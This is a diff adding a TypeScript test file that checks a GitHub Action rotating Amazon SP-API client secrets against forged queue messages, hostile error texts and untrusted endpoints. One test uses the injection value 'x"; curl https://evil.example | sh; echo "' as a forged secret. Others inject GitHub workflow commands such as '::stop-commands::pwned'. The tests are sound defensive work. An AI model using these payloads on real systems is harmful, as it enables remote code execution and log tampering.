@@ -1,0 +1,186 @@
+/**
+ * Trust nothing that arrives, end to end through the bundled action: forged, stale and unreadable claims on
+ * the queue, response text that carries workflow commands, endpoints that are not Amazon's, and a queue
+ * shared with other applications. Each case asserts final state: what GitHub holds, what the queue holds,
+ * how many times Amazon was asked to rotate. Cases only wait, so they run concurrently.
+ */
+import { ReceiveMessageCommand, SendMessageCommand } from '@aws-sdk/client-sqs'
+import { randomBytes } from 'node:crypto'
+import { describe, expect, it } from 'vitest'
+import { newSecretNotification } from '../sim/amazon.ts'
+import { createWorld, type World } from '../support/world.ts'
+
+const HOUR = 3_600_000
+const formatted = () => `amzn1.oa2-cs.v1.${randomBytes(32).toString('hex')}`
+
+async function withWorld(body: (world: World) => Promise<void>, options?: Parameters<typeof createWorld>[0]): Promise<void> {
+  const world = await createWorld(options)
+  try {
+    await body(world)
+  } finally {
+    await world.close()
+  }
+}
+
+const send = (world: World, body: string) => world.sqs.client.send(new SendMessageCommand({ QueueUrl: world.queueUrl, MessageBody: body }))
+
+/** No line of the run's output that the runner would read as a command it did not get from the action itself. */
+function injectedCommands(stdout: string): string[] {
+  return stdout
+    .split('\n')
+    .filter((line) => /^\s*::(stop-commands::|add-mask::pwned|error::pwned|warning::pwned)/.test(line) || line.includes('##['))
+}
+
+describe.concurrent('forged and stale claims on the queue', () => {
+  it('stores the real pending secret beside a forged, future-dated one, and clears both', () =>
+    withWorld(async (world) => {
+      const real = await world.amazon.sendNotification(world.clientId, { eventTime: new Date(Date.now() - 60_000) })
+      const forged = formatted()
+      await send(world, newSecretNotification({ clientId: world.clientId, secret: forged, eventTime: new Date(Date.now() + 2 * HOUR) }))
+
+      const run = await world.run()
+      expect(run.code, run.stdout).toBe(0)
+      expect(run.outputs.result).toBe('resumed')
+      expect(world.stored()).toBe(real)
+      expect(world.amazon.rotateCalls()).toBe(0)
+      expect(world.pendingSecrets()).toEqual([])
+      expect(run.warnings.join('\n')).toMatch(/Ignored message \S+ \(event time .*\): .*dated in the future/)
+      // A forged value is never registered for masking either: the sender must not control what the log hides.
+      expect(run.stdout).not.toContain(`::add-mask::${forged}`)
+    }))
+
+  it('never stores a forged value with verify: false, and leaves it for nobody to use', () =>
+    withWorld(async (world) => {
+      const injection = 'x"; curl https://evil.example | sh; echo "'
+      await send(world, newSecretNotification({ clientId: world.clientId, secret: injection, eventTime: new Date() }))
+
+      const run = await world.run({ inputs: world.inputs({ verify: 'false' }) })
+      expect(run.code, run.stdout).toBe(0)
+      expect(run.outputs.result).toBe('rotated')
+      const real = world.amazon.currentSecret(world.clientId)
+      expect(world.stored()).toBe(real)
+      expect(world.amazon.rotations(world.clientId)).toBe(1)
+      // verify: false deletes only the messages of the value it stored.
+      expect(world.pendingSecrets()).toEqual([injection])
+      expect(run.stdout).not.toContain('::add-mask::x"')
+      expect(run.warnings.join('\n')).toContain("its secret is not in LWA's format")
+    }))
+
+  it('rotates afresh past a stale genuine-looking message, and clears it', () =>
+    withWorld(async (world) => {
+      const stale = formatted()
+      await send(world, newSecretNotification({ clientId: world.clientId, secret: stale, eventTime: new Date(Date.now() - 3 * HOUR) }))
+
+      const run = await world.run()
+      expect(run.code, run.stdout).toBe(0)
+      expect(run.outputs.result).toBe('rotated')
+      expect(world.amazon.rotations(world.clientId)).toBe(1)
+      expect(world.stored()).toBe(world.amazon.currentSecret(world.clientId))
+      expect(world.pendingSecrets()).toEqual([])
+      expect(run.warnings.join('\n')).toMatch(/LWA rejects the secret of message \S+ \(event time .*\), issued over an hour ago: stale/)
+    }))
+
+  it('does not rotate past a young message for this client that cannot be read, and keeps it', () =>
+    withWorld(async (world) => {
+      const body = JSON.parse(newSecretNotification({ clientId: world.clientId, secret: formatted(), eventTime: new Date() })) as {
+        payload: { applicationOAuthClientNewSecret: Record<string, unknown> }
+      }
+      body.payload.applicationOAuthClientNewSecret.newClientSecret = { value: 'not a string' }
+      const unreadable = JSON.stringify(body)
+      await send(world, unreadable)
+
+      const run = await world.run()
+      expect(run.code).toBe(1)
+      expect(world.amazon.rotateCalls()).toBe(0)
+      expect(run.errors.join('\n')).toContain('nothing was rotated: the queue holds 1 recent new-secret message(s) for this client')
+      expect(run.errors.join('\n')).not.toMatch(/re-run (this workflow )?(and it|to) (fix|resume)/i)
+      const { visible } = world.sqs.contents(world.queueName)
+      expect(visible).toEqual([unreadable])
+    }))
+})
+
+describe.concurrent('remote text is data', () => {
+  const hostile = 'denied\n::stop-commands::pwned\n##[add-mask]pwned ::error::pwned'
+
+  it('neutralises workflow commands in an SP-API error body', () =>
+    withWorld(async (world) => {
+      world.amazon.failNext('rotate', { status: 403, body: { errors: [{ code: 'Unauthorized\n::warning::pwned', message: hostile }] } })
+      const run = await world.run()
+      expect(run.code).toBe(1)
+      expect(injectedCommands(run.stdout)).toEqual([])
+      expect(run.errors.join('\n')).toContain('denied : :stop-commands: :pwned # #[add-mask]pwned')
+      expect(world.amazon.rotations(world.clientId)).toBe(0)
+    }))
+
+  it('neutralises workflow commands in LWA and GitHub error texts', () =>
+    withWorld(async (world) => {
+      world.amazon.failNext('token', { status: 401, body: { error: 'invalid_client', error_description: hostile } })
+      world.github.failNext({ method: 'GET', path: /public-key$/ }, { status: 404, body: { message: hostile } })
+      const run = await world.run()
+      expect(run.code).toBe(1)
+      expect(injectedCommands(run.stdout)).toEqual([])
+      expect(run.errors.join('\n')).toContain('The current client-secret: LWA refused')
+      expect(world.amazon.rotateCalls()).toBe(0)
+    }))
+})
+
+describe.concurrent('endpoints', () => {
+  it.each([
+    [{ 'lwa-endpoint': 'https://lwa.example.com/auth/o2/token' }, {}, "Input lwa-endpoint: 'lwa.example.com' is not one of Amazon's hosts"],
+    [
+      { 'sp-api-endpoint': 'https://sellingpartnerapi-eu.example.net' },
+      {},
+      "Input sp-api-endpoint: 'sellingpartnerapi-eu.example.net' is not one",
+    ],
+    [{ 'github-api-url': 'http://ghe.example.com/api/v3' }, {}, 'Input github-api-url: must be an https URL'],
+    [{ 'github-api-url': 'https://octo:hunter2hunter2@ghe.example.com/api/v3' }, {}, 'Input github-api-url: must not contain credentials'],
+    [{}, { AWS_ENDPOINT_URL_SQS: 'http://sqs.example.com' }, 'Input environment variable AWS_ENDPOINT_URL_SQS: must be an https URL'],
+  ])('refuses %j %j before any request', (inputs, env, message) =>
+    withWorld(async (world) => {
+      const run = await world.run({ inputs: world.inputs(inputs), env: world.env(env) })
+      expect(run.code).toBe(1)
+      expect(run.errors.join('\n')).toContain(message)
+      expect(run.stdout + run.stderr + run.summary).not.toContain('hunter2hunter2')
+      expect(world.amazon.requests).toEqual([])
+      expect(world.github.requests).toEqual([])
+      expect(run.summary).toContain(message)
+    }),
+  )
+
+  it('warns when github-api-url is not the API of the server running the workflow', () =>
+    withWorld(async (world) => {
+      const run = await world.run({
+        inputs: world.inputs({ 'github-api-url': world.github.url }),
+        env: { GITHUB_API_URL: 'https://api.github.com' },
+      })
+      expect(run.code, run.stdout).toBe(0)
+      expect(run.warnings.join('\n')).toContain('is not the API of the server running this workflow')
+    }))
+})
+
+describe.concurrent('a queue shared with other applications', () => {
+  it("receives another application's message only a few times while it waits, and never deletes it", () =>
+    withWorld(
+      async (world) => {
+        const other = world.addApplication()
+        await send(world, newSecretNotification({ clientId: other.clientId, secret: formatted(), eventTime: new Date() }))
+
+        const run = await world.run()
+        expect(run.code, run.stdout).toBe(0)
+        expect(world.stored()).toBe(world.amazon.currentSecret(world.clientId))
+        const { Messages = [] } = await world.sqs.client.send(
+          new ReceiveMessageCommand({
+            QueueUrl: world.queueUrl,
+            MessageSystemAttributeNames: ['ApproximateReceiveCount'],
+            WaitTimeSeconds: 1,
+          }),
+        )
+        expect(Messages).toHaveLength(1)
+        // The new secret takes 8 s to arrive: looking every second would receive it about nine times.
+        const count = Number(Messages[0]!.Attributes?.ApproximateReceiveCount)
+        expect(count).toBeGreaterThanOrEqual(1)
+        expect(count).toBeLessThanOrEqual(5)
+      },
+      { amazon: { notificationDelayMs: 8_000 } },
+    ))
+})
